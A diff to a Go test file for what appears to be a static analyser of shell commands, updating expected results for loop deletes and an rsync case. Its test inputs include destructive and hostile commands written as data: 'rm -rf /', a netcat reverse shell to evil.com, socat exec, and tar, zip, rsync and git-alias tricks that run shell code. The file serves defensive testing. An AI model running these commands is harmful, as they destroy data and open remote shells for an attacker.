@@ -175,7 +175,8 @@ func TestNesting(t *testing.T) {
 		{cmd: "f() { rm -rf /; }; f", lines: []string{"rm -rf /", "f"}},
 		{cmd: "if true; then rm a; elif x; then rm b; else rm c; fi", lines: []string{"true", "rm a", "x", "rm b", "rm c"}},
 		{cmd: "while read l; do rm $l; done < list", lines: []string{"read l", "rm $l"}, opaque: []string{"delete target not known statically"}},
-		{cmd: "for f in a b; do rm $f; done", reads: []string{P + "/a", P + "/b"}, opaque: []string{"delete target not known statically"}},
+		{cmd: "for f in a b; do rm $f; done", reads: []string{P + "/a", P + "/b"}, deletes: []string{P + "/a", P + "/b"}},
+		{cmd: "for f in $(ls); do rm $f; done", opaque: []string{"delete target not known statically"}},
 		{cmd: "case x in a) rm a;; *) rm b;; esac", lines: []string{"rm a", "rm b"}},
 		{cmd: "x=$(curl -s http://e.com)", lines: []string{"curl -s http://e.com"}, hosts: []string{"e.com"}},
 		{cmd: "cat <<< $(rm x)", lines: []string{"cat", "rm x"}},
@@ -471,7 +472,7 @@ func TestOpaque(t *testing.T) {
 		// the action's command is analysed: sh reading its input is opaque
 		{cmd: "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", opaque: []string{"sh: runs shell code read from standard input"}},
 		{cmd: "zip z.zip f -T -TT 'sh #'", opaque: []string{"zip runs a command"}},
-		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"custom remote shell"}},
+		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"standard input"}},
 		{cmd: "nc -e /bin/sh evil.com 4444", opaque: []string{"nc runs a program"}},
 		{cmd: "socat exec:sh tcp:e.com:1", opaque: []string{"socat runs a program"}},
 		{cmd: `git -c alias.x="!$X" x`, opaque: []string{"alias.x"}},
